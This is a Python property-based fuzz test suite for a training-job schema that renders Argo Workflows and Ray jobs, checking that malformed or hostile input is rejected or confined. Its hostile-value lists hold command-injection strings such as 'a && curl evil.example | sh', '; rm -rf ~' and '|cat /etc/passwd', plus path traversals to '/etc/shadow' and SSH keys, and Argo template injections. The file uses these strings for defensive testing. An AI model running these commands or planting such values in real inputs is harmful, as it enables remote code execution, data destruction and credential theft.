"""Property-based fuzzing of the PSFTJob schema with hypothesis: bad input never ends in a
traceback, an unbounded message, or a Workflow that carries a spec string where it may run.

Every document starts as an example of examples/*.yaml. A mutation walks it, picks a path
(any value, container or scalar, at any depth; or a key of a mapping under metadata or
spec) and replaces it with something hostile: a wrong type, null, NaN or infinity, huge
and negative numbers, 100 KB strings, unicode (a lone surrogate too), NUL bytes, deep
nesting, path traversal (`../`, absolute paths, `s3://b/../x`), shell syntax (`$(id)`,
backticks, `;`) and Argo template syntax (`{{workflow.name}}`).

For each document (`check_document`):
- `validate_job` returns a job or raises InvalidJob whose errors all name a field (a
  non-empty path under a key the document has); no other exception escapes;
- every line of every message is at most MAX_LINE characters;
- an accepted job renders (`render_workflow`; a local-storage job raises InvalidJob, the
  cluster-only error, and is rendered again with S3 storage), and the Workflow's names,
  labels, selectors, quantities and image are valid for Kubernetes; every container runs
  `psft <stage> --config <file>` and nothing else; no string of the Workflow holds Argo's
  `{{` (but the multi-node supervisor's own `{{workflow.name}}`/`{{workflow.uid}}` env
  values) or one of the hostile strings: spec strings travel only inside the base64 stage
  config. A job refused only for `resources.nodes > 1` is rendered as the tests of the Ray
  step do (PSFTJob.model_validate), RayJob and ConfigMap included;
- the operator's `validate(body)` accepts exactly the documents validate_job accepts and
  the cluster can run, without raising (for a body whose metadata is a mapping: the API
  server delivers no other);
- for a subset, the same document written as a YAML or JSON file through `load_job` gives
  the same verdict, or a SpecFileError (one bounded line) for a file the loader refuses
  (nesting past 64 levels).

`derandomize=True` makes every run generate the same documents (CI is reproducible). The
counts (generated, accepted, rejected, ...) are printed by the last test (`pytest -s`).
"""

from __future__ import annotations

import base64
import copy
import json
import math
import re
import sys
import tempfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from psft.operator.reconcile import validate as operator_validate
from psft.workflows import argo, argo_ray
from psft.workflows.pipeline import build_pipeline
from psft.workflows.spec import PSFTJob
from psft.workflows.spec_file import SpecFileError
from psft.workflows.validate import InvalidJob, load_job, validate_job

sys.path.insert(0, str(Path(__file__).parents[1] / "workflows"))
from workflow_examples import example_files, psftjob_docs

MAX_LINE = 1000
"""Longest line a message may have (errors.MAX_MESSAGE is 600; paths add a little)."""


def every_field(doc: dict[str, Any]) -> dict[str, Any]:
    """An example with every field written: its defaults filled in, and every optional field
    the examples leave out set to a valid value, so that each one is mutated too."""
    wire = validate_job(doc).to_wire()
    spec = wire["spec"]
    wire["metadata"] |= {
        "labels": {"team": "ml", "psft.dev/experiment": "limo"},
        "annotations": {"example.com/owner": "ml-team"},
        "uid": "0b5e7a52-4a4c-4bd5-9c2a-2e8f0f1b9a10",
    }
    spec["model"] |= {"chatTemplate": "{{ messages }}", "maxContextLength": 131072}
    spec["dataset"] |= {"limit": 1000}
    spec["dataset"]["validation"] |= {"files": ["s3://psft/data/val.jsonl"], "maxRows": 100}
    spec["psft"] |= {"maxSteps": 100}
    spec["resources"] |= {
        "image": "registry.example.com:5000/psft/trainer:0.1.0",
        "nodeSelector": {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"},
        "tolerations": [
            {
                "key": "nvidia.com/gpu",
                "operator": "Equal",
                "value": "present",
                "effect": "NoExecute",
                "tolerationSeconds": 300,
            }
        ],
        "priorityClassName": "training-high",
        "schedulerName": "volcano",
        "queue": "gpu-training",
        "serviceAccountName": "psft-trainer",
    }
    spec["eval"] |= {
        "benchmarks": [
            "aime24",
            {"name": "mine", "path": "s3://psft/bench/mine.jsonl", "type": "multiple-choice"},
        ],
        "limit": 10,
        "systemPrompt": "Think, then answer.",
    }
    spec["storage"]["s3"] |= {
        "region": "eu-west-1",
        "prefix": "team/runs",
        "caBundle": "certs/ca.pem",
        "secretRef": {"name": "psft-s3", "accessKeyKey": "id", "secretKeyKey": "key"},
        "createBucket": True,
    }
    spec["monitoring"] |= {"pushgateway": "http://pushgateway.monitoring.svc:9091"}
    spec |= {
        "activeDeadlineSeconds": 86400,
        "ttlSecondsAfterFinished": {"success": 3600, "failure": 86400},
    }
    validate_job(wire)
    return wire


EXAMPLES: list[tuple[str, dict[str, Any]]] = [
    (path.name, doc) for path in example_files() for doc in psftjob_docs(path)
]
EXAMPLES.append(
    ("every-field", every_field(next(d for n, d in EXAMPLES if n == "grpo-followup.yaml")))
)
STATS: Counter[str] = Counter()

# ---- hostile values ----

HUGE = "a" * 100_000
DEEP_LIST: Any = "x"
DEEP_DICT: Any = "x"
for _ in range(200):
    DEEP_LIST, DEEP_DICT = [DEEP_LIST], {"k": DEEP_DICT}

SHELL = [
    "$(id)",
    "`id`",
    "; rm -rf ~",
    "a && curl evil.example | sh",
    "${HOME}",
    "|cat /etc/passwd",
]
ARGO = ["{{workflow.name}}", "{{inputs.parameters.x}}", "{{=sprig.b64enc('x')}}", "{{ pod.name }}"]
TRAVERSAL = [
    "../",
    "../../etc/passwd",
    "/etc/passwd",
    "/",
    "s3://b/../x",
    "s3://bucket/../../x",
    "s3://bucket/a/./b",
    "file:///etc/shadow",
    "~root/.ssh/id_rsa",
    "..",
]
HOSTILE_STRINGS = [
    *SHELL,
    *ARGO,
    *TRAVERSAL,
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "日本語のテキスト",
    "\u202eevil",
    "🙂" * 10,
    "ß" * 64,
    HUGE,
    "7" * 100_000,
    "NaN",
    "-5Gi",
    "1e30",
    "null",
    "http://user:pass@minio:9000",
    "MiXeD_Case.Value",
    "8$(id)",
    "ok{{workflow.name}}",
    "valid-name;id",
]
"""Strings: each injected as a value and, under metadata and spec, as a mapping key."""
MARKERS = [s for s in (*SHELL, *ARGO, *TRAVERSAL, "8$(id)", "ok{{workflow.name}}") if len(s) >= 4]
"""Hostile strings distinctive enough that finding one in a Workflow means it came from the
spec (shorter ones, like `/`, occur in our own fixed strings)."""
HOSTILE_VALUES: list[Any] = [
    None,
    True,
    0,
    -1,
    1,
    2**63,
    -(2**63) - 1,
    10**30,
    -(10**30),
    1.5,
    -0.0,
    1e308,
    float("nan"),
    float("inf"),
    float("-inf"),
    [],
    {},
    [None],
    {"a": 1},
    ["x", 1, None],
    DEEP_LIST,
    DEEP_DICT,
    *HOSTILE_STRINGS,
]
SWEEP_VALUES: list[Any] = [
    None,
    True,
    -1,
    10**30,
    float("nan"),
    float("inf"),
    [],
    {},
    DEEP_DICT,
    HUGE,
    "\ud800",
    "a\x00b",
    "$(id)",
    "`id`; id",
    "{{workflow.name}}",
    "../../etc/passwd",
    "/etc/passwd",
    "s3://b/../x",
    "",
    "ok{{workflow.name}}",
]
"""The values the exhaustive sweep puts at every path of every example."""

hostile = st.one_of(
    st.sampled_from(HOSTILE_VALUES),
    st.text(max_size=40),
    st.integers(),
    st.floats(),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE_STRINGS), st.text(max_size=8)),
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=8),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
        max_leaves=8,
    ),
)

# ---- walking and mutating documents ----

Path_ = tuple[str | int, ...]


def paths(node: Any, here: Path_ = ()) -> Iterator[Path_]:
    """Every path below the root of a document: mappings' values and lists' items."""
    children = (
        node.items()
        if isinstance(node, dict)
        else enumerate(node)
        if isinstance(node, list)
        else ()
    )
    for key, child in children:
        yield (*here, key)
        yield from paths(child, (*here, key))


def mapping_paths(doc: dict[str, Any]) -> list[Path_]:
    """Mappings under metadata and spec whose keys a mutation may rename (the top-level keys
    stay: the operator reads only apiVersion, kind, metadata and spec of a body)."""
    found: list[Path_] = [p for p in (("metadata",), ("spec",)) if isinstance(doc.get(p[0]), dict)]
    found += [p for p in paths(doc) if len(p) >= 2 and isinstance(_get(doc, p), dict)]
    return [p for p in found if _get(doc, p)]


def _get(doc: Any, path: Path_) -> Any:
    for key in path:
        doc = doc[key]
    return doc


def replaced(doc: dict[str, Any], path: Path_, value: Any) -> dict[str, Any]:
    out = copy.deepcopy(doc)
    _get(out, path[:-1])[path[-1]] = value
    return out


def renamed(doc: dict[str, Any], path: Path_, old: str, new: str) -> dict[str, Any]:
    out = copy.deepcopy(doc)
    holder = _get(out, path)
    holder[new] = holder.pop(old)
    return out


# ---- what a valid Workflow looks like (Kubernetes' rules, written here independently) ----

DNS_LABEL = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?")
DNS_SUBDOMAIN = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*")
LABEL_NAME = re.compile(r"([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9]")
QUANTITY = re.compile(
    r"\+?([0-9]+(\.[0-9]*)?|\.[0-9]+)(Ki|Mi|Gi|Ti|Pi|Ei|n|u|m|k|M|G|T|P|E|[eE][-+]?[0-9]+)?"
)
C_IDENTIFIER = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
IMAGE = re.compile(
    r"(([a-zA-Z0-9]([-a-zA-Z0-9]*[a-zA-Z0-9])?(\.[a-zA-Z0-9]([-a-zA-Z0-9]*[a-zA-Z0-9])?)*"
    r"|\[[a-fA-F0-9:]+\])(:[0-9]+)?/)?[a-z0-9]+(([_.]|__|-+)[a-z0-9]+)*"
    r"(/[a-z0-9]+(([_.]|__|-+)[a-z0-9]+)*)*(:[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?"
    r"(@[A-Za-z][A-Za-z0-9]*([-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,})?"
)
BASE64 = re.compile(r"[A-Za-z0-9+/]*={0,2}")
STAGE_KINDS = {"prepare", "train", "eval", "grpo", "report", "rayjob"}
OUR_ARGO_ENV = {
    argo_ray.WORKFLOW_NAME_ENV: "{{workflow.name}}",
    argo_ray.WORKFLOW_UID_ENV: "{{workflow.uid}}",
}


def name_problems(value: Any, what: str, *, subdomain: bool = False, limit: int = 63) -> list[str]:
    rule = DNS_SUBDOMAIN if subdomain else DNS_LABEL
    if not isinstance(value, str) or len(value) > limit or not rule.fullmatch(value):
        return [f"{what}: {value!r} is no valid Kubernetes name"]
    return []


def label_key_problems(key: Any, what: str) -> list[str]:
    prefix, slash, name = key.rpartition("/") if isinstance(key, str) else ("", "", None)
    ok = isinstance(name, str) and len(name) <= 63 and LABEL_NAME.fullmatch(name)
    if slash:
        ok = ok and len(prefix) <= 253 and DNS_SUBDOMAIN.fullmatch(prefix)
    return [] if ok else [f"{what}: key {key!r} is no valid label key"]


def labels_problems(labels: Any, what: str, *, values: bool = True) -> list[str]:
    if labels is None:
        return []
    if not isinstance(labels, dict):
        return [f"{what}: not a mapping"]
    out = []
    for key, value in labels.items():
        out += label_key_problems(key, what)
        ok = isinstance(value, str) and (
            not values or (len(value) <= 63 and (value == "" or LABEL_NAME.fullmatch(value)))
        )
        if not ok:
            out.append(f"{what}: value {value!r} of {key!r} is no valid label value")
    return out


def pod_spec_problems(pod: dict[str, Any], where: str) -> list[str]:
    """Fields of a pod (template) that come from the spec."""
    out = labels_problems(pod.get("nodeSelector"), f"{where}.nodeSelector")
    for i, t in enumerate(pod.get("tolerations") or []):
        if t.get("key"):
            out += label_key_problems(t["key"], f"{where}.tolerations[{i}]")
        value = t.get("value") or ""
        if len(value) > 63 or (value and not LABEL_NAME.fullmatch(value)):
            out.append(f"{where}.tolerations[{i}]: value {value!r}")
        if not t.get("key") and t.get("operator") != "Exists":
            out.append(f"{where}.tolerations[{i}]: no key, operator not Exists")
        if t.get("tolerationSeconds") is not None and t.get("effect") != "NoExecute":
            out.append(f"{where}.tolerations[{i}]: tolerationSeconds without NoExecute")
    for field in ("priorityClassName", "schedulerName", "serviceAccountName"):
        if pod.get(field) is not None:
            out += name_problems(pod[field], f"{where}.{field}", subdomain=True, limit=253)
    for c in pod.get("containers") or ([pod["container"]] if pod.get("container") else []):
        out += name_problems(c.get("name"), f"{where}.container.name")
        image = c.get("image")
        if not isinstance(image, str) or not IMAGE.fullmatch(image) or len(image) > 1024:
            out.append(f"{where}.container.image: {image!r}")
        for kind in ("requests", "limits"):
            for name, q in ((c.get("resources") or {}).get(kind) or {}).items():
                if not QUANTITY.fullmatch(str(q)) or not any(d in "123456789" for d in str(q)):
                    out.append(f"{where}.resources.{kind}.{name}: {q!r} is no positive quantity")
        for env in c.get("env") or []:
            if not C_IDENTIFIER.fullmatch(env["name"]):
                out.append(f"{where}.env: {env['name']!r}")
    for v in pod.get("volumes") or []:
        out += name_problems(v.get("name"), f"{where}.volumes")
        size = (v.get("emptyDir") or {}).get("sizeLimit")
        if size is not None and not QUANTITY.fullmatch(str(size)):
            out.append(f"{where}.volumes: sizeLimit {size!r}")
    return out


def workflow_problems(wf: dict[str, Any]) -> list[str]:
    meta = wf["metadata"]
    out = name_problems(meta["name"], "metadata.name")  # also the value of Argo's label
    out += name_problems(meta.get("namespace"), "metadata.namespace")
    out += labels_problems(meta.get("labels"), "metadata.labels")
    out += labels_problems(meta.get("annotations"), "metadata.annotations", values=False)
    spec = wf["spec"]
    out += labels_problems(spec["podMetadata"].get("labels"), "spec.podMetadata.labels")
    out += labels_problems(
        spec["podMetadata"].get("annotations"), "spec.podMetadata.annotations", values=False
    )
    out += pod_spec_problems(spec, "spec")
    for t in spec["templates"]:
        where = f"templates[{t['name']}]"
        out += name_problems(t["name"], where)
        out += labels_problems((t.get("metadata") or {}).get("labels"), f"{where}.labels")
        out += pod_spec_problems(t, where)
        for task in (t.get("dag") or {}).get("tasks") or []:
            out += name_problems(task["name"], f"{where}.tasks")
        container = t.get("container")
        if container is not None:
            args = container.get("args") or []
            ok = (
                container.get("command") == ["psft"]
                and len(args) == 3
                and args[0] in STAGE_KINDS
                and args[1:] == ["--config", argo.CONFIG_PATH]
            )
            if not ok:
                out.append(f"{where}: runs {container.get('command')!r} {args!r}")
    return out


def strings_outside_stage_config(node: Any, here: str = "") -> Iterator[tuple[str, str]]:
    """(where, string) for every string of a manifest, keys too, but the base64 data of the
    stage config (checked to be base64 of JSON instead) and our own Argo env values."""
    if isinstance(node, dict):
        if node.get("name") in OUR_ARGO_ENV and node.get("value") == OUR_ARGO_ENV[node["name"]]:
            return
        for key, value in node.items():
            yield f"{here}.{key}", key
            if key == "raw" and isinstance(value, dict) and "data" in value:
                _check_stage_config(value["data"], f"{here}.raw.data")
                continue
            if key == "data" and here.endswith("ConfigMap"):
                for name, text in value.items():
                    _check_stage_config(text, f"{here}.data.{name}")
                continue
            yield from strings_outside_stage_config(value, f"{here}.{key}")
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from strings_outside_stage_config(value, f"{here}[{i}]")
    elif isinstance(node, str):
        yield here, node


def _check_stage_config(text: str, where: str) -> None:
    assert BASE64.fullmatch(text), f"{where} is not base64"
    config = json.loads(base64.b64decode(text))
    assert isinstance(config, dict) and "job" in config, where


def manifest_problems(manifest: dict[str, Any], injected: list[Any]) -> list[str]:
    markers = [s for s in injected if isinstance(s, str) and s in MARKERS]
    out = []
    for where, text in strings_outside_stage_config(manifest):
        if "{{" in text:
            out.append(f"{where}: Argo template syntax {text[:80]!r}")
        out += [f"{where}: holds the spec string {m!r}" for m in markers if m in text]
    return out


# ---- the invariants ----


def _lines_bounded(text: str, what: str) -> None:
    longest = max((len(line) for line in text.splitlines()), default=0)
    assert longest <= MAX_LINE, f"{what}: a line of {longest} characters: {text[:300]!r}"


def check_invalid(exc: InvalidJob, doc: dict[str, Any]) -> None:
    assert exc.errors, "InvalidJob without errors"
    for error in exc.errors:
        assert error.path, f"an error without a field path: {error}"
        top = re.split(r"[.\[]", error.path, maxsplit=1)[0]
        assert top in doc or top in ("apiVersion", "kind", "metadata", "spec"), error.path
        _lines_bounded(str(error), "an error")
    _lines_bounded(str(exc), "InvalidJob")


def render_checked(job: PSFTJob, injected: list[Any]) -> None:
    wf = argo.render_workflow(job)
    problems = workflow_problems(wf) + manifest_problems(wf, injected)
    assert not problems, "\n".join(problems[:20])
    STATS["rendered"] += 1


S3_STORAGE = {
    "type": "s3",
    "s3": {"endpoint": "minio.ml:9000", "bucket": "runs", "secretRef": {"name": "s3-keys"}},
}


def check_accepted(job: PSFTJob, injected: list[Any]) -> None:
    if argo.cluster_errors(job):
        with pytest.raises(InvalidJob):
            argo.render_workflow(job)
        STATS["cluster-only error"] += 1
        storage = job.spec.storage.model_validate(S3_STORAGE)
        job = job.model_copy(update={"spec": job.spec.model_copy(update={"storage": storage})})
    render_checked(job, injected)


def check_multi_node(doc: dict[str, Any], injected: list[Any]) -> None:
    """A valid document with resources.nodes > 1: its Workflow, RayJob and ConfigMap."""
    job = PSFTJob.model_validate(doc)
    if argo.cluster_errors(job):
        storage = job.spec.storage.model_validate(S3_STORAGE)
        job = job.model_copy(update={"spec": job.spec.model_copy(update={"storage": storage})})
    render_checked(job, injected)
    train = next(s for s in build_pipeline(job) if s.kind == "train")
    ray, config_map = argo_ray.rayjob(job, train), argo_ray.config_map(job, train)
    problems = name_problems(ray["metadata"]["name"], "rayjob", limit=argo_ray.RAYJOB_NAME_MAX)
    problems += name_problems(
        config_map["metadata"]["name"], "configmap", subdomain=True, limit=253
    )
    problems += labels_problems(ray["metadata"]["labels"], "rayjob.labels")
    problems += labels_problems(config_map["metadata"]["labels"], "configmap.labels")
    cluster = ray["spec"]["rayClusterSpec"]
    for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
        template = group["template"]
        problems += labels_problems(template["metadata"]["labels"], "ray pod labels")
        problems += pod_spec_problems(template["spec"], "ray pod")
    problems += manifest_problems(ray, injected)
    problems += manifest_problems({"ConfigMap": config_map}, injected)
    assert not problems, "\n".join(problems[:20])
    STATS["multi-node rendered"] += 1


OPERATOR_METADATA = ("name", "namespace", "labels", "annotations", "uid")
"""The fields of metadata the operator reads; the API server prunes unknown ones."""


def check_operator(doc: dict[str, Any], accepted: PSFTJob | None) -> None:
    meta = doc.get("metadata")
    if not isinstance(meta, dict):
        return  # the API server stores no object whose metadata is not a mapping
    job, errors = operator_validate(copy.deepcopy(doc))
    if set(meta) - set(OPERATOR_METADATA):  # a key of metadata was renamed: what it reads
        seen = {**doc, "metadata": {k: meta[k] for k in OPERATOR_METADATA if k in meta}}
        accepted = _job_or_none(seen)
    runnable = accepted is not None and not argo.cluster_errors(accepted)
    assert (job is not None) == runnable, f"operator: {job is not None}, validate_job: {runnable}"
    assert (job is None) == bool(errors)
    for error in errors:
        _lines_bounded(error, "an operator error")
    STATS["operator checked"] += 1


def _job_or_none(doc: dict[str, Any]) -> PSFTJob | None:
    try:
        return validate_job(doc)
    except InvalidJob:
        return None


def check_document(doc: dict[str, Any], injected: list[Any]) -> PSFTJob | None:
    """Every invariant for one document; returns the job when valid."""
    STATS["generated"] += 1
    before = repr(doc)
    job: PSFTJob | None = None
    try:
        job = validate_job(doc)
    except InvalidJob as exc:
        check_invalid(exc, doc)
        STATS["rejected"] += 1
    else:
        STATS["accepted"] += 1
        if job.spec.resources.nodes > 1:
            check_multi_node(doc, injected)
        else:
            check_accepted(job, injected)
    assert repr(doc) == before, "validation changed the document it was given"
    check_operator(doc, job)
    maybe_check_file(doc, job)
    return job


FILES = tempfile.TemporaryDirectory(prefix="psft-fuzz-")
FILE_EVERY = 8
"""Every FILE_EVERY-th document also goes through a file (YAML and JSON in turn)."""


def maybe_check_file(doc: dict[str, Any], job: PSFTJob | None) -> None:
    n = STATS["generated"]
    if n % FILE_EVERY:
        return
    suffix = ".json" if n % (2 * FILE_EVERY) else ".yaml"
    if suffix == ".json" and any(
        isinstance(v, float) and not math.isfinite(v) for v in _leaves(doc)
    ):
        suffix = ".yaml"  # JSON has no NaN or infinity (Python writes them anyway)
    check_file(doc, Path(FILES.name), suffix, job is not None)


def check_file(doc: dict[str, Any], folder: Path, suffix: str, verdict: bool) -> None:
    """The document as a file through load_job: the same verdict, or a SpecFileError."""
    path = folder / f"job{suffix}"
    if suffix == ".json":
        path.write_text(json.dumps(doc))
    else:
        path.write_text(yaml.safe_dump(doc))
    STATS["files"] += 1
    try:
        load_job(path)
    except SpecFileError as exc:
        _lines_bounded(str(exc), "SpecFileError")
        assert "\n" not in str(exc)
        STATS["file refused as a file"] += 1
        return
    except InvalidJob as exc:
        check_invalid(exc, doc)
        assert not verdict, "valid as a document, refused as a file"
        return
    assert verdict, "refused as a document, valid as a file"


# ---- the tests ----


def sweep_cases() -> Iterator[tuple[str, dict[str, Any], list[Any]]]:
    """Every sweep value at every path of every example, and every hostile string as each
    key of each mapping under metadata and spec."""
    for name, doc in EXAMPLES:
        for path in paths(doc):
            for value in SWEEP_VALUES:
                yield f"{name}:{path}={str(value)[:40]!r}", replaced(doc, path, value), [value]
        for path in mapping_paths(doc):
            for key in list(_get(doc, path)):
                for new in ("$(id)", "{{workflow.name}}", "../x", HUGE, "\ud800"):
                    yield (
                        f"{name}:{path} key {key}->{new[:20]!r}",
                        renamed(doc, path, key, new),
                        [new],
                    )


def test_every_field_of_every_example_survives_every_hostile_value() -> None:
    failures = []
    for label, doc, injected in sweep_cases():
        try:
            check_document(doc, injected)
        except Exception as exc:  # collected, reported together below
            failures.append(f"{label}: {type(exc).__name__}: {str(exc)[:500]}")
    assert not failures, f"{len(failures)} failures:\n" + "\n".join(failures[:20])


FUZZ = settings(
    max_examples=2500,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    database=None,
)


@st.composite
def mutated(draw: st.DrawFn) -> tuple[dict[str, Any], list[Any]]:
    """An example with one to four mutations: values replaced, or keys renamed."""
    _, doc = draw(st.sampled_from(EXAMPLES))
    doc = copy.deepcopy(doc)
    injected = []
    for _ in range(draw(st.integers(1, 4))):
        renames = mapping_paths(doc)
        if renames and draw(st.integers(0, 4)) == 0:
            path = draw(st.sampled_from(renames))
            old = draw(st.sampled_from(sorted(_get(doc, path))))
            new = draw(st.sampled_from(HOSTILE_STRINGS) | st.text(min_size=1, max_size=20))
            if new not in _get(doc, path):
                doc = renamed(doc, path, old, new)
                injected.append(new)
            continue
        candidates = list(paths(doc))
        strings = [p for p in candidates if isinstance(_get(doc, p), str)]
        if strings and draw(st.booleans()):
            # a string for a string: free-text fields take it, so the job is often still
            # valid and its Workflow is checked for where the string went
            path = draw(st.sampled_from(strings))
            value = draw(st.sampled_from(HOSTILE_STRINGS) | st.text(max_size=40))
        elif candidates:
            path = draw(st.sampled_from(candidates))
            value = draw(hostile)
        else:
            break
        doc = replaced(doc, path, value)
        injected.append(value)
    return doc, injected


@FUZZ
@given(mutated())
def test_mutated_examples_keep_every_invariant(case: tuple[dict[str, Any], list[Any]]) -> None:
    doc, injected = case
    check_document(doc, injected)


def _free_text_paths() -> list[tuple[int, Path_]]:
    """(example, path) of every string a hostile string can replace with the job still
    valid: prompts, templates, column names..."""
    probe = "$(id) `id`; {{workflow.name}} ../x"
    found = []
    for i, (_, doc) in enumerate(EXAMPLES):
        for path in paths(doc):
            if isinstance(_get(doc, path), str):
                try:
                    validate_job(replaced(doc, path, probe))
                except InvalidJob:
                    continue
                found.append((i, path))
    return found


FREE_TEXT = _free_text_paths()


@st.composite
def free_text_mutated(draw: st.DrawFn) -> tuple[dict[str, Any], list[Any]]:
    """An example whose free-text strings (one to three) hold hostile text: the job stays
    valid, so its Workflow is checked for where the text went."""
    index = draw(st.sampled_from(sorted({i for i, _ in FREE_TEXT})))
    doc = copy.deepcopy(EXAMPLES[index][1])
    injected = []
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from([p for i, p in FREE_TEXT if i == index]))
        value = draw(
            st.sampled_from([*SHELL, *ARGO, *TRAVERSAL, HUGE, "a\x00b", "日本語"])
            | st.builds(lambda a, b: a + b, st.sampled_from(MARKERS), st.text(max_size=10))
        )
        doc = replaced(doc, path, value)
        injected.append(value)
    return doc, injected


@settings(FUZZ, max_examples=800)
@given(free_text_mutated())
def test_hostile_free_text_stays_in_the_stage_config(
    case: tuple[dict[str, Any], list[Any]],
) -> None:
    doc, injected = case
    check_document(doc, injected)


def test_free_text_fields_were_found() -> None:
    fields = {path[-1] for _, path in FREE_TEXT}
    assert {"promptKey", "demonstrationKey", "source"} <= fields, fields


def _leaves(node: Any) -> Iterator[Any]:
    if isinstance(node, dict):
        for value in node.values():
            yield from _leaves(value)
    elif isinstance(node, list):
        for value in node:
            yield from _leaves(value)
    else:
        yield node


def test_fuzz_statistics(capsys: pytest.CaptureFixture[str]) -> None:
    """Runs last: at least 3,000 documents were generated, and how they fared."""
    if not STATS["generated"]:
        pytest.skip("the fuzz tests did not run")
    with capsys.disabled():
        counts = ", ".join(f"{k}: {v}" for k, v in sorted(STATS.items()))
        print(f"\nfuzz statistics: {counts}")
    assert STATS["generated"] >= 3000
    assert STATS["accepted"] and STATS["rejected"] and STATS["rendered"]
    assert STATS["files"] and STATS["operator checked"]
